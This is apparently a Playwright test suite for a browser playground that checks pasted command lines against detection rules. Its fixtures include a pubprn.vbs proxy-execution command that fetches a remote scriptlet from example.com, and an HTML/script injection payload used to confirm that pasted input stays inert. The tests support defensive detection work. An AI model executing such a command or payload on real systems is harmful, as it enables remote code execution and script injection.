// What people come for: paste, see what fires, see why, and settle what can't be told.
import assert from 'node:assert/strict';
import { caretLine, read } from './editor.mjs';
import { journey } from './journey.mjs';
import { choose, events, headline, paste, sample } from './states.mjs';

const scriptlet = 'cscript.exe //b C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://example.com/a.sct';
const marks = (page) => page.getByTestId('marked').first().locator('mark').allInnerTexts();
const card = (page, title) => page.getByRole('article').filter({ has: page.getByRole('heading', { name: title }) });

journey('a pasted command line matches, and the matching characters are marked', async (page) => {
  await paste(page, `${scriptlet}\nipconfig /all\n`);
  await headline(page, '1 of 2 events matches');
  // The first match is chosen unasked.
  await card(page, 'Pubprn.vbs Proxy Execution').getByText('Match', { exact: true }).waitFor();
  assert.deepEqual(await marks(page), ['\\pubprn.vbs', 'script:']);
  await choose(page, 'ipconfig');
  await page.getByRole('heading', { name: 'Line 2' }).waitFor();
});

journey('what is pasted is only ever text', async (page) => {
  const hostile = `${scriptlet} <img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`;
  await paste(page, hostile);
  await headline(page, 'The event matches');
  const shown = await page.getByTestId('marked').first().evaluate((element) => element.textContent);
  assert.equal(shown, hostile);
  assert.equal(await page.locator('img').count(), 0);
  assert.notEqual(await page.title(), 'owned');
});

journey('a typed parent settles what could not be told, and taking it back unsettles it', async (page) => {
  await paste(page, 'cscript.exe //nologo C:\\Windows\\System32\\manage-bde.wsf -status\nC:\\Windows\\System32\\notepad.exe log.txt\n');
  await choose(page, 'notepad');
  await page.getByRole('heading', { name: 'Line 2' }).waitFor();
  await page.getByText('Not in what was pasted').click();
  await page.getByLabel('ParentImage', { exact: true }).fill('C:\\Windows\\System32\\sigverif.exe');
  await card(page, 'Uncommon Sigverif.EXE Child Process').getByText('Match', { exact: true }).waitFor();
  await headline(page, '1 of 2 events matches');
  assert.equal(await page.getByLabel('ParentImage', { exact: true }).inputValue(), 'C:\\Windows\\System32\\sigverif.exe');
  await page.getByRole('button', { name: 'Take ParentImage back' }).first().click();
  await headline(page, 'None of 2 events match');
});

journey('a filter shows the events it names, and text narrows them further', async (page) => {
  await sample(page, 'First look');
  const rows = events(page).getByRole('row');
  const all = await rows.count();
  await page.getByRole('button', { name: /Match$/ }).first().click();
  await page.waitForFunction((all) => document.querySelectorAll('.row').length < all, all);
  for (const row of await rows.all()) assert.match(await row.innerText(), /Match/);
  await page.getByLabel('Find events by text').fill('pubprn');
  await page.waitForFunction(() => document.querySelectorAll('.row').length === 1);
  await page.getByLabel('Find events by text').fill('no such text');
  await page.getByText('No event fits the filters.').waitFor();
});

journey('a record that cannot be read is named with its line, and the others count', async (page) => {
  await paste(page, '{"CommandLine":"ipconfig"}\n{"CommandLine": oops}\n{"CommandLine":"whoami"}\n');
  await headline(page, 'None of 2 events match');
  const problem = page.getByRole('region', { name: 'Problems in the events' });
  await problem.getByRole('button', { name: /go to line 2:/ }).click();
  assert.equal(await caretLine(page.getByLabel('Events: command lines or log records')), 2);
});

journey('cleared text comes back', async (page) => {
  await paste(page, scriptlet);
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.getByText('What you paste stays in this page.').waitFor();
  await page.getByRole('button', { name: 'Undo' }).click();
  await headline(page, 'The event matches');
  assert.equal(await read(page.getByLabel('Events: command lines or log records')), scriptlet);
});

journey('a file is opened, whatever its encoding', async (page) => {
  const utf16 = Buffer.from(`\ufeff${scriptlet}\r\nwhoami\r\n`, 'utf16le');
  await page.getByLabel('File to open').setInputFiles({ name: 'lines.txt', mimeType: 'text/plain', buffer: utf16 });
  await headline(page, '1 of 2 events matches');
});

journey('a reload keeps the work', async (page) => {
  await paste(page, scriptlet);
  await headline(page, 'The event matches');
  await page.getByLabel('Theme').selectOption('Dark');
  await page.getByRole('link', { name: 'Rules' }).click();
  await page.getByRole('switch', { name: 'Evaluate Pubprn.vbs Proxy Execution' }).click();
  await page.getByText('18 of 19 rules on').waitFor();
  await page.reload();
  await page.getByText('18 of 19 rules on').waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
  await page.getByRole('link', { name: 'Playground', exact: true }).click();
  await headline(page, 'The event does not match');
  assert.equal(await read(page.getByLabel('Events: command lines or log records')), scriptlet);
});

journey('a small screen shows one pane at a time, without scrolling sideways', async (page) => {
  const fits = async () => assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
  await fits();
  await sample(page, 'First look');
  await fits();
  await choose(page, 'pubprn');
  await page.getByTestId('marked').first().waitFor();
  assert.ok(!(await events(page).isVisible()));
  await fits();
}, { viewport: { width: 390, height: 844 } });

journey('a hundred thousand lines are listed a page at a time', async (page) => {
  const lines = Array.from({ length: 100_000 }, (_, n) => `C:\\Tools\\job.exe /run ${n}`);
  lines[99_999] = scriptlet;
  await paste(page, lines.join('\n'));
  await headline(page, '1 of 100,000 events matches');
  assert.ok((await page.locator('.row').count()) <= 200);
  await page.getByRole('button', { name: 'Last' }).click();
  await choose(page, 'pubprn');
  await page.getByRole('heading', { name: 'Line 100000' }).waitFor();
});

journey('a line of five megabytes is shown around its marks', async (page) => {
  await paste(page, `cscript C:\\Windows\\pubprn.vbs ${'A'.repeat(5_000_000)} script:https://example.com/a`);
  await headline(page, 'The event matches');
  await page.getByRole('button', { name: /characters …/ }).first().waitFor();
  assert.deepEqual(await marks(page), ['\\pubprn.vbs', 'script:']);
  assert.ok((await page.getByTestId('marked').first().evaluate((element) => element.textContent.length)) < 10_000);
});

journey('a missing field is typed key by key, and the keyboard stays in it', async (page) => {
  await paste(page, 'cscript manage-bde.wsf -status\n');
  const parent = page.getByLabel('ParentImage').first();
  await parent.click();
  await page.keyboard.type('C:\\Windows\\System32\\cscript.exe');
  assert.equal(await parent.inputValue(), 'C:\\Windows\\System32\\cscript.exe');
});

journey('on paper stands what was found, and nothing to press', async (page) => {
  await paste(page, 'cscript C:\\x\\pubprn.vbs a script:http://b');
  await headline(page, 'The event matches');
  await page.emulateMedia({ media: 'print' });
  const seen = (text) => page.getByText(text, { exact: true }).filter({ visible: true }).first();
  await seen('Pubprn.vbs Proxy Execution').waitFor();
  await page.getByRole('button', { name: /Pubprn.vbs Proxy Execution/ }).filter({ visible: true }).first().waitFor();
  await page.getByText('Match', { exact: true }).filter({ visible: true }).first().waitFor();
  for (const gone of ['Clear', 'Share', 'Suggest from labelled events']) {
    assert.equal(await page.getByRole('button', { name: gone }).filter({ visible: true }).count(), 0, gone);
  }
  assert.equal(await page.getByRole('heading', { name: 'Events', exact: true }).filter({ visible: true }).count(), 0);
});
